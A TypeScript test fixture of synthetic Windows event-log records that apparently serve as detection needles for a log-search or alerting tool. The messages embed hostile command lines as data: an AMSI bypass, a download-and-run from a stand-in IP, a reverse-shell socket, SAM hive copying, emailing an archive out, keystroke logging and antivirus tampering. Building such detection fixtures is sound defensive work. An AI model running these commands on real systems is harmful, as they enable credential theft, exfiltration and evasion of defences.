import { rowsOf } from "./needle.ts";
import type { Needle } from "./needle.ts";

/** channel ;; provider ;; id ;; message ;; mark */
const TOLD = String.raw`
System ;; Service Control Manager ;; 7045 ;; A service was installed in the system.\r\n\r\nService Name:  rdpwrap_x\r\nService File Name:  %SystemRoot%\\wZkQpLmN.exe\r\nService Type:  user mode service\r\nService Start Type:  demand start\r\nService Account:  LocalSystem ;; wZkQpLmN
System ;; Service Control Manager ;; 7045 ;; A service was installed in the system.\r\n\r\nService Name:  kprocesshacker3\r\nService File Name:  C:\\Users\\Public\\kph.sys\r\nService Type:  kernel mode driver\r\nService Start Type:  demand start ;; kph.sys
System ;; Service Control Manager ;; 7040 ;; The start type of the Windows Event Log service was changed from auto start to disabled. ;; Event Log
System ;; Service Control Manager ;; 7036 ;; The Windows Defender Antivirus Service service entered the stopped state. ;; Defender Antivirus
System ;; Microsoft-Windows-Eventlog ;; 104 ;; The Windows PowerShell log file was cleared. ;; PowerShell log file
System ;; Microsoft-Windows-Kernel-General ;; 16 ;; The access history in hive \\??\\C:\\Windows\\Temp\\sam.hiv was cleared updating 241 keys and creating 12 modified pages. ;; sam.hiv
System ;; NETLOGON ;; 5829 ;; The Netlogon service allowed a vulnerable Netlogon secure channel connection.\r\n\r\nMachine SamAccountName: PRN-OLD$\r\nDomain: CORP ;; PRN-OLD
System ;; Microsoft-Windows-DistributedCOM ;; 10016 ;; The machine wide permission settings do not grant Remote Activation permission for the COM Server application with CLSID {9BA05972-F6A8-11CF-A442-00A0C90A8F39} to the user CORP\\dlane from address 10.0.77.8 ;; 10.0.77.8
Microsoft-Windows-Windows Defender/Operational ;; Microsoft-Windows-Windows Defender ;; 1116 ;; Microsoft Defender Antivirus has detected malware or other potentially unwanted software.\r\n \tName: HackTool:Win32/Lazagne.A\r\n \tSeverity: High\r\n \tPath: file:_C:\\Users\\jdoe\\Downloads\\lz.exe ;; Lazagne
Microsoft-Windows-Windows Defender/Operational ;; Microsoft-Windows-Windows Defender ;; 5001 ;; Microsoft Defender Antivirus Real-time Protection scanning for malware and other potentially unwanted software was disabled. ;; Real-time Protection
Microsoft-Windows-Windows Defender/Operational ;; Microsoft-Windows-Windows Defender ;; 5007 ;; Microsoft Defender Antivirus Configuration has changed.\r\n \tOld value: \r\n \tNew value: HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\C:\\Users\\Public\\kit = 0x0 ;; Public\kit
Microsoft-Windows-Windows Defender/Operational ;; Microsoft-Windows-Windows Defender ;; 1121 ;; Microsoft Defender Exploit Guard has blocked an operation that is not allowed by your IT administrator.\r\n\tID: 9E6C4E1F-7D60-472F-BA1A-A39EF669E4B2\r\n\tProcess Name: C:\\Users\\Public\\dmp2.exe ;; dmp2.exe
Microsoft-Windows-TaskScheduler/Operational ;; Microsoft-Windows-TaskScheduler ;; 106 ;; User "CORP\\jdoe" registered Task Scheduler task "\\Updater-7f3" ;; Updater-7f3
Microsoft-Windows-TaskScheduler/Operational ;; Microsoft-Windows-TaskScheduler ;; 200 ;; Task Scheduler launched action "C:\\ProgramData\\nt.exe" in instance "{8a0cf2d1-21aa-4d0e-9e1f-b06b5bdb0a55}" of task "\\MSSync". ;; ProgramData\nt.exe
Microsoft-Windows-TerminalServices-RemoteConnectionManager/Operational ;; Microsoft-Windows-TerminalServices-RemoteConnectionManager ;; 1149 ;; Remote Desktop Services: User authentication succeeded:\r\n\r\nUser: opsadmin\r\nDomain: CORP\r\nSource Network Address: 203.0.113.170 ;; 203.0.113.170
Microsoft-Windows-TerminalServices-LocalSessionManager/Operational ;; Microsoft-Windows-TerminalServices-LocalSessionManager ;; 21 ;; Remote Desktop Services: Session logon succeeded:\r\n\r\nUser: CORP\\kiosk9\r\nSession ID: 3\r\nSource Network Address: 10.250.1.44 ;; kiosk9
Microsoft-Windows-WMI-Activity/Operational ;; Microsoft-Windows-WMI-Activity ;; 5861 ;; Namespace = //./root/subscription; Eventfilter = SCM Evt Log; Consumer = CommandLineEventConsumer="WinUpdC"; PossibleCause = Binding EventFilter: CommandLineTemplate = "C:\\\\Windows\\\\Temp\\\\wu.exe"; ;; WinUpdC
Microsoft-Windows-WinRM/Operational ;; Microsoft-Windows-WinRM ;; 91 ;; Creating WSMan shell on server with ResourceUri: http://schemas.microsoft.com/wbem/wsman/1/windows/shell/cmd by CORP\\lateral9 ;; lateral9
Microsoft-Windows-Bits-Client/Operational ;; Microsoft-Windows-Bits-Client ;; 59 ;; BITS started the FontCacheJob transfer job that is associated with the http://192.0.2.33/fc.dat URL. ;; 192.0.2.33
Microsoft-Windows-AppLocker/EXE and DLL ;; Microsoft-Windows-AppLocker ;; 8004 ;; %OSDRIVE%\\USERS\\JDOE\\APPDATA\\LOCAL\\TEMP\\ZX9.EXE was prevented from running. ;; ZX9.EXE
Microsoft-Windows-CodeIntegrity/Operational ;; Microsoft-Windows-CodeIntegrity ;; 3033 ;; Code Integrity determined that a process (\\Device\\HarddiskVolume2\\Windows\\System32\\lsass.exe) attempted to load \\Device\\HarddiskVolume2\\Temp\\ssp9.dll that did not meet the Microsoft signing level requirements. ;; ssp9.dll
Microsoft-Windows-PrintService/Operational ;; Microsoft-Windows-PrintService ;; 316 ;; Printer driver 1234 for Windows x64 Version-3 was added or updated. Files:- UNIDRV.DLL, nightmare.dll. No user action is required. ;; nightmare.dll
Microsoft-Windows-DNS-Server/Audit ;; Microsoft-Windows-DNSServer ;; 541 ;; The setting serverlevelplugindll on scope . has been set to \\\\10.5.5.5\\p\\dnsx.dll via interface RPC. ;; dnsx.dll
Microsoft-Windows-NTLM/Operational ;; Microsoft-Windows-NTLM ;; 8004 ;; Domain Controller Blocked Audit: Audit NTLM authentication to this domain controller.\r\nSecure Channel name: RELAY01\r\nUser name: scanuser\r\nDomain name: CORP\r\nWorkstation name: DESKTOP-9X ;; DESKTOP-9X
Microsoft-Windows-SmbClient/Connectivity ;; Microsoft-Windows-SMBClient ;; 30803 ;; Failed to establish a network connection.\r\n\r\nError: {Device Timeout}\r\n\r\nServer name: 45.9.148.3\r\nServer address: 45.9.148.3:445 ;; 45.9.148.3
Microsoft-Windows-Windows Firewall With Advanced Security/Firewall ;; Microsoft-Windows-Windows Firewall With Advanced Security ;; 2004 ;; A rule has been added to the Windows Firewall exception list.\r\n\r\nAdded Rule:\r\n\tRule Name:\tCore Net 4445\r\n\tAction:\tAllow\r\n\tLocal Ports:\t4445 ;; Core Net 4445
Application ;; MsiInstaller ;; 1033 ;; Windows Installer installed the product. Product Name: ScreenConnect Client (a1b2c3). Product Version: 23.2.9. ;; ScreenConnect
Application ;; MSSQLSERVER ;; 15457 ;; Configuration option 'xp_cmdshell' changed from 0 to 1. Run the RECONFIGURE statement to install. ;; xp_cmdshell
Application ;; Application Error ;; 1000 ;; Faulting application name: lsass.exe, version: 10.0.17763.1, time stamp: 0x5f1a\r\nFaulting module name: mimidrvx.dll, version: 0.0.0.0 ;; mimidrvx
Application ;; ESENT ;; 325 ;; ntdsutil (5028,D,0) The database engine created a new database (1, C:\\Temp\\ifm9\\Active Directory\\ntds.dit). ;; ifm9
Application ;; Microsoft-Windows-Audit-CVE ;; 1 ;; Possible detection of CVE: 2020-0601. Additional Information: CA: <USERTrust ECC> sha1: 24a8b1 ;; 2020-0601
MSExchange Management ;; MSExchange CmdletLogs ;; 1 ;; Cmdlet succeeded. Cmdlet New-MailboxExportRequest, parameters -Mailbox "ceo@corp.example" -FilePath "\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\x7.aspx". ;; x7.aspx
Microsoft-Windows-PowerShell/Operational ;; Microsoft-Windows-PowerShell ;; 4104 ;; Creating Scriptblock text (1 of 1):\r\n$a=[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils');$a.GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true) ;; amsiInitFailed
Microsoft-Windows-PowerShell/Operational ;; Microsoft-Windows-PowerShell ;; 4104 ;; Creating Scriptblock text (1 of 1):\r\nInvoke-WebRequest -Uri http://203.0.113.8/p.exe -OutFile $env:TEMP\\p.exe; Start-Process $env:TEMP\\p.exe ;; 203.0.113.8
Microsoft-Windows-PowerShell/Operational ;; Microsoft-Windows-PowerShell ;; 4104 ;; Creating Scriptblock text (1 of 1):\r\nNew-ItemProperty -Path HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name Cortex -Value "rundll32 c:\\users\\public\\cx.dll,a" ;; cx.dll
Microsoft-Windows-PowerShell/Operational ;; Microsoft-Windows-PowerShell ;; 4104 ;; Creating Scriptblock text (1 of 1):\r\nGet-ADUser -Filter * -Properties msDS-SupportedEncryptionTypes, ServicePrincipalName | Export-Csv C:\\PerfLogs\\u.csv ;; u.csv
Microsoft-Windows-PowerShell/Operational ;; Microsoft-Windows-PowerShell ;; 4104 ;; Creating Scriptblock text (1 of 1):\r\n$c = New-Object System.Net.Sockets.TCPClient('192.0.2.148',9001);$s=$c.GetStream();[byte[]]$b=0..65535|%{0} ;; 192.0.2.148
Microsoft-Windows-PowerShell/Operational ;; Microsoft-Windows-PowerShell ;; 4104 ;; Creating Scriptblock text (1 of 1):\r\nEnter-PSSession -ComputerName VAULT-01 -Credential $cred ;; VAULT-01
Microsoft-Windows-PowerShell/Operational ;; Microsoft-Windows-PowerShell ;; 4104 ;; Creating Scriptblock text (1 of 1):\r\n$s=(Get-WmiObject -List Win32_ShadowCopy).Create("C:\\","ClientAccessible"); cmd /c copy "$($s.DeviceObject)\\Windows\\System32\\config\\SAM" C:\\x9.sav ;; x9.sav
Microsoft-Windows-PowerShell/Operational ;; Microsoft-Windows-PowerShell ;; 4103 ;; CommandInvocation(Send-MailMessage): "Send-MailMessage"\r\nParameterBinding(Send-MailMessage): name="To"; value="drop77@mail.example"\r\nParameterBinding(Send-MailMessage): name="Attachments"; value="C:\\PerfLogs\\q4.zip"\r\n\r\nContext:\r\n        Severity = Informational\r\n        Host Name = ConsoleHost\r\n        User = CORP\\jdoe ;; drop77
Microsoft-Windows-PowerShell/Operational ;; Microsoft-Windows-PowerShell ;; 4103 ;; CommandInvocation(Get-Keystrokes): "Get-Keystrokes"\r\nParameterBinding(Get-Keystrokes): name="LogPath"; value="C:\\Users\\jdoe\\k.log"\r\n\r\nContext:\r\n        Severity = Informational\r\n        Host Name = ConsoleHost ;; Get-Keystrokes
Windows PowerShell ;; PowerShell ;; 400 ;; Engine state is changed from None to Available. \r\n\r\nDetails: \r\n\tNewEngineState=Available\r\n\tPreviousEngineState=None\r\n\r\n\tSequenceNumber=13\r\n\r\n\tHostName=ConsoleHost\r\n\tHostVersion=2.0\r\n\tHostApplication=powershell.exe -noni -nop -enc JABzAD0ATgBlAHcALQBP\r\n\tEngineVersion=2.0 ;; JABzAD0A
Windows PowerShell ;; PowerShell ;; 800 ;; Pipeline execution details for command line: Copy-Item \\\\FS09\\Payroll$\\2025.xlsx C:\\ProgramData\\2025.dat. \r\n\r\nContext Information: \r\n\tDetailSequence=1\r\n\tUserId=CORP\\jdoe\r\n\tHostName=ConsoleHost ;; Payroll$
`;

/** Events of other channels, of which only a message tells. */
export const MORE_WINDOWS_CHANNELS: readonly Needle[] = rowsOf(TOLD).map(
  ([channel = "", provider = "", id = "", text = "", mark = ""]) => {
    const message = text
      .replaceAll("\\r\\n", "\r\n")
      .replaceAll("\\t", "\t")
      .replaceAll("\\\\", "\\");
    return {
      platform: "windows",
      mark,
      fields: {
        event_type: "winsec",
        win_event_id: Number(id),
        provider,
        channel,
        summary: message.split("\r\n")[0],
        message,
      },
    };
  },
);
